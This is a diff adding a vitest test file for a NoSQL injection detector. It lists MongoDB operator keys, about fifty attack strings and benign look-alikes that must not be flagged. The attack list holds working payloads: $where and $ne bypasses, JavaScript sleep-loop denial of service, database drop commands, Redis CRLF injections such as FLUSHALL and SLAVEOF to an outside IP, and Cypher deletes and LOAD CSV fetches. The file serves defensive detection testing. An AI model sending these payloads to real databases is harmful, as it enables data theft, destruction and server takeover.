@@ -1,0 +1,162 @@
+import { expect, it } from 'vitest';
+import { nosqli } from './nosqli.ts';
+import { detectIn } from './testing/detect-in.ts';
+
+const KEYS = [
+  '$ne',
+  '$gt',
+  '$where',
+  '$regex',
+  '$or',
+  '$function',
+  'user[$ne]',
+  'pin[$regex]',
+  'login[$nin][]',
+  'filter[$or][0][name][$gt]',
+  '[$ne]',
+  'name.$gt',
+];
+
+const HONEST_KEYS = [
+  '$ref',
+  '$schema',
+  '$id',
+  '$defs',
+  '$oid',
+  '$date',
+  '$numberLong',
+  '$binary',
+  '$db',
+  '$comment',
+  '$type',
+  '$filter',
+  '$top',
+  '$orderby',
+  '$browser',
+  '$set',
+  'price$',
+  'tags[0]',
+  'user[name]',
+  '$nextPageToken',
+  '$in_stock',
+];
+
+const ATTACKS = [
+  '{"$gt": ""}',
+  '{$ne: 1}',
+  "{'$gt': undefined}",
+  '{"name": {"$ne": none}, "pin": {"$ne": none}}',
+  "', $where: '1 == 1",
+  "true, $where: '3 == 3'",
+  "', $or: [ {}, { 'a':'a",
+  "', $regex: '^a",
+  '[$ne]=1',
+  'user[$ne]=x',
+  '?login[$regex]=a.*',
+  "'; return true; var x='",
+  "';return 'b'=='b' && ''=='",
+  "'; return this.pin == '1",
+  '0;return true',
+  '1; return 1',
+  '";return(true);var q=\'a',
+  "';sleep(3000);",
+  "'); sleep(900); ('",
+  "'};sleep(500);var o={'",
+  '1;sleep(2000)',
+  "';while(true){}'",
+  "';it=new Date();do{pt=new Date();}while(pt-it<2000);",
+  '0;var d=new Date();do{c=new Date();}while(c-d<9000)',
+  "'||'1'=='1",
+  "' && 'a'=='a' && 'b'=='b",
+  "' || 5==5//",
+  "' || 5===5//",
+  "' || true//",
+  "' && this.pin.match(/^1/)//",
+  "x' || this.role == 'admin",
+  '1||this.product',
+  "'; this.admin = true; '",
+  'db.users.find()',
+  'db.events.insert({a:1});',
+  ';db.dropDatabase()',
+  "'; db.users.drop(); '",
+  "x'});db.getUsers();({'",
+  'x\r\nFLUSHALL\r\n',
+  'x\r\nCONFIG SET dir /tmp\r\n',
+  'x\r\nSLAVEOF 192.0.2.1 6379\r\n',
+  "x\r\nEVAL 'return 1' 0\r\n",
+  '*1\r\n$8\r\nFLUSHALL\r\n',
+  'x\\r\\nSET a b\\r\\n',
+  'k\r\nset injected 0 3600 5\r\nhello\r\n',
+  'k 0 0 1\r\n1\r\nflush_all\r\n',
+  "x' OR 1=1 RETURN n//",
+  "x'}) RETURN n //",
+  "x'}) MATCH (m:Secret) RETURN m//",
+  "' RETURN 1 UNION MATCH (a) RETURN a//",
+  'MATCH (n) DETACH DELETE n',
+  "LOAD CSV FROM 'http://192.0.2.1/x' AS l RETURN l",
+  "'}) WITH 1 as a CALL db.labels() YIELD label //",
+  "x' ALLOW FILTERING; --",
+];
+
+const HONEST = [
+  'It costs $5, or $gt for short',
+  'Prices: $10 $20 $30',
+  '$.ajax({type: "POST"})',
+  "$('#menu').show()",
+  'echo $PATH and $HOME',
+  '{"$ref": "#/components/schemas/Pet"}',
+  '{"$schema": "https://json-schema.org/draft/2020-12/schema"}',
+  '{"_id": {"$oid": "5f1d7f3a9d3e2b0001a1b2c3"}}',
+  '{"when": {"$date": "2026-11-20T00:00:00Z"}}',
+  'In MongoDB, {age: {$gt: 5}} finds everybody older than five.',
+  'The operators $ne: not equal, and others',
+  "$rows[$in]['name']",
+  'if ($a[$size] == 3) { $b = $where; }',
+  'return the item; sleep well',
+  'He said "return" and left; sleep tight',
+  'this.name is set by the caller',
+  "it's this.value; that is all",
+  "don't; return it to the shop",
+  'a || b && c',
+  'x == 1 || y == 2',
+  'true or false',
+  'rock & roll || jazz',
+  'for (const a of b) { sleep(5); }',
+  'the db.t3.micro instance',
+  'db.example.com',
+  'see mydb.users.find() in the docs',
+  'eu-west-1.rds.db.amazonaws.com',
+  'const users = await db.users.find({});',
+  'first line\nset the table for two\nget some bread',
+  'Dear all,\nplease delete the file\nKind regards',
+  'a\nEVALUATION of the results\nb',
+  'KEYS and locks\nSET of three\n',
+  'MATCH (n) RETURN n',
+  'match (a) and delete (b)',
+  '"return" policy',
+  "'return to sender' is a song",
+  'with 1 as the base',
+  'the "match" is over',
+  'load csv files from the folder',
+  'Call db support at 5',
+  "the dogs' return to the house",
+  "O'Neill; return customer",
+  '50% || more',
+  'function (x) { return x; }',
+];
+
+it.each(KEYS)('the name %j is NoSQL injection', (key) => {
+  expect(detectIn(nosqli, key, true)).toMatch(/medium|high/);
+});
+
+it.each(HONEST_KEYS)('the name %j is not', (key) => {
+  expect([undefined, 'low']).toContain(detectIn(nosqli, key, true));
+});
+
+it.each(ATTACKS)('%j is NoSQL injection', (value) => {
+  expect(detectIn(nosqli, value)).toMatch(/medium|high/);
+});
+
+it.each(HONEST)('%j is not', (value) => {
+  expect([undefined, 'low']).toContain(detectIn(nosqli, value));
+});
